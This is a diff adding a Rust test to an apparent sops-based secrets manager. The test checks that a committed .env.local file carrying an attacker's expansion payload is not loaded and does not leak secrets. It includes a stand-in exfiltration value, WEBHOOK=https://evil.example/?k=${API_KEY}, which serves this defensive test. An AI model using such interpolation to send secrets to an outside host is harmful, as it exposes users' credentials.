@@ -370,3 +370,59 @@ fn check_with_a_trusted_ref_is_no_pattern_oracle() {
     let help = s.ok(&["check", "--help"]);
     assert!(help.contains("working tree's .sops.yaml"), "{help}");
 }
+
+#[test]
+fn committed_local_files_and_policy_expansion_import_no_attacker_text() {
+    let s = Sandbox::new();
+    s.init_alice();
+    s.ok(&["set", "API_KEY=sk_live_0123456789"]);
+    commit_as(&s, "Test User <test@example.com>", "secrets");
+    // The pusher turns expansion on for everyone and commits a ".local override".
+    let policy = s.read(".sops.yaml");
+    s.write(
+        ".sops.yaml",
+        policy.replace("  version: 1\n", "  version: 1\n  expand: true\n"),
+    );
+    s.write(".env.local", "WEBHOOK=https://evil.example/?k=${API_KEY}\n");
+    s.git(&["add", "-f", ".env.local"]);
+    commit_as(&s, "Mallory <mallory@example.com>", "local defaults");
+
+    let out = s.run(&["exec", "--", "sh", "-c", "printf %s \"${WEBHOOK-unset}\""]);
+    let err = text(&out.stderr);
+    assert_eq!(text(&out.stdout), "unset", "{err}");
+    assert!(
+        err.contains("not loading .env.local: git tracks it") && err.contains("expand: true"),
+        "{err}"
+    );
+    let out = s.run(&["export", "--format", "json"]);
+    assert!(!text(&out.stdout).contains("evil.example"));
+    assert!(text(&out.stderr).contains("not loading .env.local"));
+
+    // The same text in the reader's own (untracked) .local file is loaded, and stays literal
+    // unless the reader asks for expansion.
+    s.git(&["rm", "-q", "--cached", ".env.local"]);
+    s.write(".env.local", "URL=https://api.example/?k=${API_KEY}\n");
+    let url = |extra: &[&str], env: Option<&str>| {
+        let mut c = s.envv();
+        if let Some(v) = env {
+            c.env("ENVV_EXPAND", v);
+        }
+        let out = c
+            .arg("exec")
+            .args(extra)
+            .args(["--", "sh", "-c", "printf %s \"$URL\""])
+            .output()
+            .unwrap();
+        text(&out.stdout)
+    };
+    assert_eq!(url(&[], None), "https://api.example/?k=${API_KEY}");
+    assert_eq!(
+        url(&["--expand"], None),
+        "https://api.example/?k=sk_live_0123456789"
+    );
+    assert_eq!(
+        url(&[], Some("1")),
+        "https://api.example/?k=sk_live_0123456789"
+    );
+    assert_eq!(url(&[], Some("0")), "https://api.example/?k=${API_KEY}");
+}
